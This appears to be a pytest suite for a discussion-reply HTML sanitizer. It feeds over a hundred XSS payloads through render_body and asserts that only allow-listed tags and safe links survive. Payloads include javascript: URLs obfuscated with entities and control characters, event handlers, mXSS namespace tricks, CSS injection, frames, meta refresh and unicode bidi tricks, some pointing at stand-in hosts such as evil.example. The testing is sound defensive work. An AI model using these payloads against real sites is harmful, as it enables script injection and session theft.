"""Hostile reply bodies are harmless: a table of payloads, informed by the public XSS corpora
(OWASP filter evasion cheat sheet, RSnake, PortSwigger, html5sec/H5SC, DOMPurify fixtures),
written for this project (not copied)."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from fireside.discussions.platforms.yammer import PLATFORM as YAMMER
from fireside.discussions.sanitize import ALLOWED_TAGS, LINK_REL, initials, render_body
from tests.conftest import make_reply, save_thread

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a>z</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">newline</a>",
    "<a href=\" &#14;  javascript:alert(1)\">ctrl</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">ent</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">colon</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"//evil.example/\">protocol relative</a>",
    "<a href=\"/admin\">relative</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">opener</a>",
    "<a href=\"https://ok.example/\" style=\"position:fixed;top:0\">overlay</a>",
    "<p style=\"background:url(javascript:alert(1))\">css</p>",
    "<div style=\"width: expression(alert(1));\">expr</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<form action=https://evil.example/><input name=p type=password></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background=javascript:alert(1)>",
    "<div/onmouseover='alert(1)'>hover</div>",
    "<b onmouseover=alert(1)>bold</b>",
    "<p id=x tabindex=1 onfocusin=alert(1)>focus</p>",
    "<blockquote cite=javascript:alert(1)>quote</blockquote>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<img src=https://tracker.example/pixel.gif>",
    "<img srcset=https://tracker.example/a.png>",
    "<picture><source srcset=https://tracker.example/b.png></picture>",
    "<a href=\"https://ok.example/\"><img src=https://tracker.example/c.png></a>",
    "<frameset onload=alert(1)>",
    "<applet code=x.class>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
    "<a href=\"mailto:someone@example.com\">write</a>",
]

#: More payloads by the categories of the outside test (issue 16), written for this project
#: from the public cheat sheets' techniques: each category is a list so a gap shows by name.
CATEGORIES: dict[str, list[str]] = {
    "url schemes with entities and control characters": [
        "<a href=\"javas&#99;ript:alert(1)\">dec</a>",
        "<a href=\"javas&#x63;ript:alert(1)\">hex</a>",
        "<a href=\"javas&#0000099ript:alert(1)\">padded, no semicolon</a>",
        "<a href=\"&Tab;javascript:alert(1)\">named tab</a>",
        "<a href=\"java&NewLine;script:alert(1)\">named newline</a>",
        "<a href=\"\x01javascript:alert(1)\">C0 control</a>",
        "<a href=\"java\x00script:alert(1)\">NUL</a>",
        "<a href=\"javascript&#58alert(1)\">colon entity</a>",
        "<a href=\"  JAVASCRIPT:alert(1)\">spaces and case</a>",
        "<a href=\"javascript://%0aalert(1)\">comment then newline</a>",
        "<a href=\"data:text/html;base64,PHN2Zz4=\">data</a>",
        "<a href=\"blob:https://evil.example/uuid\">blob</a>",
        "<a href=\"file:///etc/passwd\">file</a>",
        "<a href=\"https:evil.example\">no slashes</a>",
        "<a href=\"\\\\evil.example\\share\">unc</a>",
        "<a href=\"mailto:x@evil.example?body=<script>\">mailto with markup</a>",
    ],
    "event handlers": [
        "<a href=\"https://ok.example/\" onpointerenter=alert(1)>ptr</a>",
        "<p onanimationstart=alert(1) style=\"animation:x\">anim</p>",
        "<strong onbeforecopy=alert(1)>copy</strong>",
        "<em onauxclick=alert(1)>aux</em>",
        "<blockquote onscrollend=alert(1)>scroll</blockquote>",
        "<code ONFOCUS=alert(1) tabindex=0>upper</code>",
        "<li on\x00click=alert(1)>nul in name</li>",
        "<a href=https://ok.example/ onclick\t=alert(1)>tab before equals</a>",
        "<ul><li onmouseenter=\"alert(1)\">enter</li></ul>",
        "<p/onclick=alert(1)>slash separator</p>",
    ],
    "mXSS and namespace confusion": [
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mi><mglyph><svg><mtext><textarea><a title=\"</textarea>"
        "<img src onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><a title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<p><table><a title=\"</table><img src=x onerror=alert(1)>\"></a></table></p>",
        "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
        "<math href=javascript:alert(1)>mathlink</math>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>",
        "<a href=\"https://ok.example/\"><a href=javascript:alert(1)>nested</a></a>",
    ],
    "css": [
        "<p style=\"behavior:url(x.htc)\">htc</p>",
        "<p style=\"-moz-binding:url(https://evil.example/x.xml#x)\">binding</p>",
        "<b style=\"background-image:url(https://tracker.example/p.png)\">tracker</b>",
        "<style>*{color:red}</style>",
        "<i style=\"color:red;background:u\\rl(javascript:alert(1))\">escaped url</i>",
        "<p style=\"position:fixed;inset:0;z-index:9999\">overlay</p>",
        "<link rel=\"preload\" href=\"https://evil.example/x.css\" as=\"style\">",
    ],
    "frames": [
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<frame src=javascript:alert(1)>",
        "<object data=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\">",
        "<embed src=\"https://evil.example/x.svg\" type=\"image/svg+xml\">",
        "<portal src=\"https://evil.example/\"></portal>",
        "<fencedframe src=\"https://evil.example/\"></fencedframe>",
    ],
    "meta, base and link": [
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta name=\"referrer\" content=\"unsafe-url\">",
        "<base target=\"_blank\">",
        "<link rel=\"import\" href=\"https://evil.example/x.html\">",
        "<link rel=\"prefetch\" href=\"https://tracker.example/p\">",
        "<link rel=\"icon\" href=\"https://tracker.example/favicon.ico\">",
    ],
    "unicode: bidi, zero-width, fullwidth": [
        "<a href=\"https://ok.example/\u202egnp.exe\">bidi in url</a>",
        "amount \u202e0001\u202c due",
        "\u2066isolate\u2069 \u200fRLM \u200eLRM",
        "<a href=\"java\u200bscript:alert(1)\">zero width</a>",
        "<a href=\"java\ufeffscript:alert(1)\">bom</a>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<a href=\"\uff4a\uff41\uff56\uff41script:alert(1)\">fullwidth scheme</a>",
        "<scr\u0131pt>alert(1)</scr\u0131pt>",
        "<a href=\"https://xn--80ak6aa92e.com/\">punycode</a>",
    ],
}
PAYLOADS = PAYLOADS + [p for group in CATEGORIES.values() for p in group]

# What must never come out of a body: tags and attributes outside the allow-list.
BANNED = re.compile(r"<\s*/?\s*(script|style|iframe|object|embed|form|meta|link|base|img|svg|math"
                    r"|input|button|video|audio|source|picture|frame|frameset|applet|template)\b",
                    re.IGNORECASE)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check_safe(output: str) -> _Collector:
    """Assert ``output`` is within the allow-list; return what was parsed."""
    assert not BANNED.search(output), output
    parsed = _Collector()
    parsed.feed(output)
    parsed.close()
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, output)
        for name, value in attrs:
            assert not name.startswith("on"), (name, output)
            assert name in ({"href", "title", "rel"} if tag == "a" else set()), (tag, name)
            if name == "href":
                plain = re.sub(r"[\x00-\x20\x7f]", "", html.unescape(value or "")).lower()
                assert plain.startswith(("http:", "https:", "mailto:")), (value, output)
            if name == "rel":
                assert value == LINK_REL
    return parsed


def test_at_least_sixty_payloads() -> None:
    assert len(PAYLOADS) >= 60
    assert all(len(group) >= 5 for group in CATEGORIES.values())


@pytest.mark.parametrize(("body", "fmt"), [
    ("<div>" * 100_000 + "x" + "</div>" * 100_000, "html"),
    ("<blockquote>" * 5_000 + "<a href=javascript:alert(1)>x</a>", "html"),
    ("<b><i>" * 30_000, "html"),
    ("<p>" + "a" * 2_000_000 + "</p>", "html"),
    ("<" * 500_000, "html"),
    ("&amp;" * 200_000, "html"),
    ("word " * 400_000, "text"),
    ("\ud83d" * 10_000, "text"),
])
def test_size_and_nesting_are_bounded_and_still_safe(body: str, fmt: str) -> None:
    """Size and nesting: cut before nh3 (which is super-linear in nesting), then cleaned."""
    out = render_body(body, fmt)
    check_safe(out) if fmt == "html" else None
    assert len(out) < 250_000
    out.encode("utf-8")
    level = deepest = 0
    for closing, _ in re.findall(r"<(/?)([a-z]+)", out):
        level += -1 if closing else 1
        deepest = max(deepest, level)
    assert deepest <= 45


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_html_body_is_cleaned_and_surrounding_text_survives(index: int) -> None:
    body = f"<p>before{index} {PAYLOADS[index]} after{index}</p>"
    out = render_body(body, "html")
    parsed = check_safe(out)
    text = "".join(parsed.text)
    assert f"before{index}" in text
    # The text after a payload survives unless the payload opens a raw-text element whose
    # content is dropped as a whole (as browsers would treat it).
    if not re.search(r"<(script|style|iframe|noscript|title|xmp|textarea|template|select|"
                     r"svg|math|frameset|applet|object|noembed)", PAYLOADS[index], re.I):
        assert f"after{index}" in text, out


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_text_body_is_escaped_verbatim(index: int) -> None:
    body = f"before {PAYLOADS[index]} after"
    out = render_body(body, "text")
    parsed = _Collector()
    parsed.feed(out)
    assert {t for t, _ in parsed.tags} <= {"p", "br"}
    text = "".join(parsed.text)
    expected = re.sub(r"[\w.+-]+@[\w-]+\.\w+", "[email hidden]", body)
    expected = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", expected)  # controls go
    assert text.replace("\n", "") == expected.replace("\n", "")


@pytest.mark.parametrize(("body", "expected"), [
    ("x<y and y>z", "<p>x&lt;y and y&gt;z</p>"),
    ("I <3 the <CEO>", "<p>I &lt;3 the &lt;CEO&gt;</p>"),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("Tom & Jerry", "<p>Tom &amp; Jerry</p>"),
])
def test_plain_text_reads_exactly(body: str, expected: str) -> None:
    assert render_body(body, "text") == expected


def test_links_keep_http_and_gain_rel() -> None:
    out = render_body('<a href="https://ok.example/a?b=1&c=2" title="t">ok</a>', "html")
    assert out == ('<a href="https://ok.example/a?b=1&amp;c=2" title="t" '
                   'rel="nofollow noopener noreferrer">ok</a>')


def test_allowed_formatting_survives() -> None:
    body = ("<p><strong>a</strong> <em>b</em> <b>c</b> <i>d</i><br><code>e</code></p>"
            "<ul><li>f</li></ul><ol><li>g</li></ol><blockquote>h</blockquote><pre>i</pre>")
    assert render_body(body, "html") == body


def test_mentions_read_as_names() -> None:
    names = {"15": "Dana <Whitfield>"}
    assert render_body("hi [[user:15]] and [[user:99]]", "text", names, YAMMER.mention) == \
        "<p>hi @Dana &lt;Whitfield&gt; and @a colleague</p>"
    assert render_body("<p>hi [[user:15]]</p>", "html", names, YAMMER.mention) == \
        "<p>hi @Dana &lt;Whitfield&gt;</p>"


def test_email_addresses_are_never_published() -> None:
    out = render_body('<p>ask joe.bloggs@northwind.example or '
                      '<a href="mailto:x@northwind.example">me</a></p>', "html")
    assert "@northwind" not in out and "[email hidden]" in out
    assert "joe@x.example" not in render_body("mail joe@x.example", "text")


def test_initials() -> None:
    assert initials("Dana Whitfield") == "DW"
    assert initials("cher") == "C"
    assert initials("Jean-Luc de la Tour") == "JT"
    assert initials("<>") == "?"


def test_every_payload_is_harmless_in_a_built_page(project: Any) -> None:
    """All payloads as replies of one thread: the built panel holds none of them."""
    project.post("hostile", discussion="yammer:2000000001")
    replies = [make_reply(str(3000 + i), body=f"<p>before{i} {p} after{i}</p>", likes=1)
               for i, p in enumerate(PAYLOADS)]
    replies.append(make_reply("2999", name='"><img src=x onerror=alert(1)>', likes=5,
                              body="<p>name</p>"))
    save_thread(Path(project.root) / "data/discussions", "2000000001", replies)
    project.build(discussions={"top_replies": len(replies)})
    page = project.html("posts/hostile/")
    panel = page[page.index('<section class="fs-discussion"'):]
    panel = panel[: panel.index("</section>") + len("</section>")]
    assert not BANNED.search(panel)
    parsed = _Collector()
    parsed.feed(panel)
    for tag, attrs in parsed.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "formaction", "data", "srcset"):
                plain = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                assert plain.startswith(("http:", "https:", "mailto:", "#")), (tag, value)
    text = "".join(parsed.text)
    assert '"><img src=x onerror=alert(1)>' in text  # the hostile name, shown as text
    for i in range(len(PAYLOADS)):
        assert f"before{i}" in text
